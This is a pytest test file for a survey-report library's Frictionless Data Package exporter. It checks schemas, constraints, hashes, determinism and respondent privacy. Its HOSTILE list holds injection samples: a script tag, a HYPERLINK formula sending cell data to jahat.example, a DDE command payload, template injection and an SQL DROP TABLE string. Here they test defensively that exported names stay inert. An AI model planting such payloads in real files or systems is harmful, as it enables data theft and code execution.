"""The Data Package, proved by Frictionless: types, constraints, hashes, and a broken cell."""

import io
import json
import zipfile

import pandas as pd
import pytest

from sipukat import datasets, export, ikm, pelayanan, read_survey, report
from sipukat.export.as_csv import harmless
from sipukat.export.as_datapackage import DataPackageExporter
from sipukat.report.cleaning import clean

frictionless = pytest.importorskip("frictionless", reason="frictionless validates the Data Package")
HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://jahat.example/"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "{{7*7}} #import",
    f"Dinas {chr(0)}B{chr(0x202E)}txt",
    "Dinas 😀",
    "x" * 10_000,
    'a"; DROP TABLE x; --\nbaris, dua',
]


@pytest.fixture(scope="module")
def city(made):
    responses = read_survey(datasets.path("kota-contoh")).responses
    result = ikm.estimate(responses, by="unit")
    return report.build(result, generated=made, subject="Kota Contoh", period="2026")


@pytest.fixture(scope="module")
def unpacked(city, tmp_path_factory):
    folder = tmp_path_factory.mktemp("paket")
    zipfile.ZipFile(io.BytesIO(export.get("datapackage")(city))).extractall(folder)
    return folder


def described(document):
    archive = zipfile.ZipFile(io.BytesIO(export.get("datapackage")(document)))
    return json.loads(archive.read("datapackage.json"))


def problems(path):
    return frictionless.validate(str(path)).flatten(["type", "rowNumber", "fieldName"])


def written(document, tmp_path):
    path = tmp_path / "paket.zip"
    path.write_bytes(export.get("datapackage")(document))
    return path


def test_the_package_of_a_city_is_valid(city, tmp_path):
    assert problems(written(city, tmp_path)) == []


def test_it_is_valid_by_the_schema_that_frictionless_holds_of_a_package(city):
    package = frictionless.Package.from_descriptor(described(city))
    assert package.resource_names == ["ikm", "unsur", "unit-unsur", "readme"]
    assert frictionless.Package.metadata_validate(package.to_descriptor()) is not None


@pytest.mark.parametrize(
    ("table", "old", "new", "error"),
    [
        ("ikm", "87.89", "101.00", "constraint-error"),
        ("ikm", ",210,", ",-1,", "constraint-error"),
        ("ikm", ",B,", ",E,", "constraint-error"),
        ("ikm", "87.89", "banyak", "type-error"),
        ("unsur", "3.338", "4.338", "constraint-error"),
        ("ikm", "RSUD Kota Contoh", "DPMPTSP Kota Contoh", "primary-key"),
    ],
)
def test_a_broken_cell_is_found(unpacked, tmp_path, table, old, new, error):
    for path in unpacked.rglob("*"):
        if path.is_file():
            target = tmp_path / path.relative_to(unpacked)
            target.parent.mkdir(exist_ok=True)
            target.write_bytes(path.read_bytes())
    broken = tmp_path / "data" / f"{table}.csv"
    assert old.encode() in broken.read_bytes()
    broken.write_bytes(broken.read_bytes().replace(old.encode(), new.encode(), 1))
    described_now = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    for resource in described_now["resources"]:  # without its fingerprint the cell itself is named
        resource.pop("hash")
        resource.pop("bytes")
    (tmp_path / "datapackage.json").write_text(json.dumps(described_now), encoding="utf-8")
    assert error in {each[0] for each in problems(tmp_path / "datapackage.json")}


def test_a_changed_byte_is_found_by_the_hash(unpacked, tmp_path):
    package = json.loads((unpacked / "datapackage.json").read_text(encoding="utf-8"))
    package["resources"][0]["hash"] = package["resources"][1]["hash"]
    package["resources"] = package["resources"][:1]
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "ikm.csv").write_bytes((unpacked / "data" / "ikm.csv").read_bytes())
    (tmp_path / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    assert [each[0] for each in problems(tmp_path / "datapackage.json")] == ["hash-count"]


def test_columns_have_types_titles_units_and_the_limits_of_the_law(city):
    ikm_table, unsur, _, _ = described(city)["resources"]
    fields = {field["name"]: field for field in ikm_table["schema"]["fields"]}
    assert (fields["n"]["type"], fields["n"]["title"], fields["n"]["unit"]) == (
        "integer",
        "Responden",
        "orang",
    )
    assert fields["ikm"]["constraints"] == {"minimum": 25, "maximum": 100}
    assert fields["mutu"]["constraints"]["enum"] == ["D", "C", "B", "A"]
    assert ikm_table["schema"]["primaryKey"] == ["by_1", "total"]
    nrr = next(field for field in unsur["schema"]["fields"] if field["name"] == "nrr")
    assert nrr["constraints"] == {"minimum": 1, "maximum": 4}


def test_the_tables_hold_the_numbers_that_are_printed(city, unpacked):
    frame = pd.read_csv(unpacked / "data" / "ikm.csv")
    units = next(t for t in city.tables if t.id == "ikm")
    assert frame["ikm"].tolist() == [float(row[3]) for row in units.rows]
    assert len(pd.read_csv(unpacked / "data" / "unit-unsur.csv")) == 13 * 9


def test_what_is_withheld_is_missing_and_the_package_stays_valid(document, tmp_path):
    assert problems(written(document, tmp_path)) == []
    text = zipfile.ZipFile(tmp_path / "paket.zip").read("data/ikm.csv").decode()
    line = next(line for line in text.splitlines() if "Dinas D" in line)
    assert ",,,,,," in line
    assert "ditahan" in line


def test_it_says_where_it_comes_from_and_who_publishes_chooses_the_licence(city):
    package = described(city)
    assert package["created"] == "2026-08-17T09:00:00+00:00"
    assert package["sources"][0]["title"] == "kota-contoh.csv"
    assert len(package["sources"][0]["sha256"]) == 64
    assert {item["key"] for item in package["provenance"]} >= {"library", "standard", "options"}
    assert "licenses" not in package
    chosen = DataPackageExporter(licenses=[{"name": "CC-BY-4.0"}])(city)
    loaded = json.loads(zipfile.ZipFile(io.BytesIO(chosen)).read("datapackage.json"))
    assert loaded["licenses"] == [{"name": "CC-BY-4.0"}]


@pytest.mark.parametrize("part", ["lampiran", "maklumat", "berita_acara", "sippn", "pemeriksaan"])
def test_every_part_of_a_standar_pelayanan_is_a_valid_package(part, made, tmp_path):
    doc = pelayanan.load(datasets.path("disdukcapil-ktp-el-good"))
    document = report.build(doc, part=part, generated=made)
    assert problems(written(document, tmp_path)) == []


def test_hostile_names_are_inert_and_readable_and_the_package_stays_valid(document_of, tmp_path):
    document = document_of(dict.fromkeys(HOSTILE, 12), opts={"subject": HOSTILE[0], "period": HOSTILE[1]})
    path = written(document, tmp_path)
    assert problems(path) == []
    frame = pd.read_csv(io.BytesIO(zipfile.ZipFile(path).read("data/ikm.csv")), lineterminator=None)
    names = set(frame["by_1"])
    assert {harmless(clean(name)) for name in HOSTILE} <= names
    assert not [name for name in names if str(name).startswith(("=", "+", "@"))]


def test_the_same_document_gives_the_same_bytes(city):
    first = export.get("datapackage")(city)
    assert first == export.get("datapackage")(city.model_copy(deep=True))
    assert {entry.date_time for entry in zipfile.ZipFile(io.BytesIO(first)).infolist()} == {
        (1980, 1, 1, 0, 0, 0)
    }


def test_no_respondent_is_in_it(document):
    archive = zipfile.ZipFile(io.BytesIO(export.get("datapackage")(document)))
    assert max(archive.read(name).count(b"\n") for name in archive.namelist() if name.endswith(".csv")) < 60
